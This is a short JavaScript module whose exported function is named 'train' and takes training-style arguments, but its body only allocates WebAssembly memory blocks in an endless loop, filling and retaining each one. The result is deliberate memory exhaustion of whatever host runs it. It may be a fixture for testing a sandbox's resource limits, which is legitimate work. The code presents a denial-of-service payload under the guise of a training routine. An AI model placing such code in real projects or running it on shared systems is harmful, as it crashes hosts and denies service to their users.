export async function train({ tf, data, report }) {
  const held = []
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 256 })
    new Uint8Array(memory.buffer).fill(1)
    held.push(memory)
  }
}
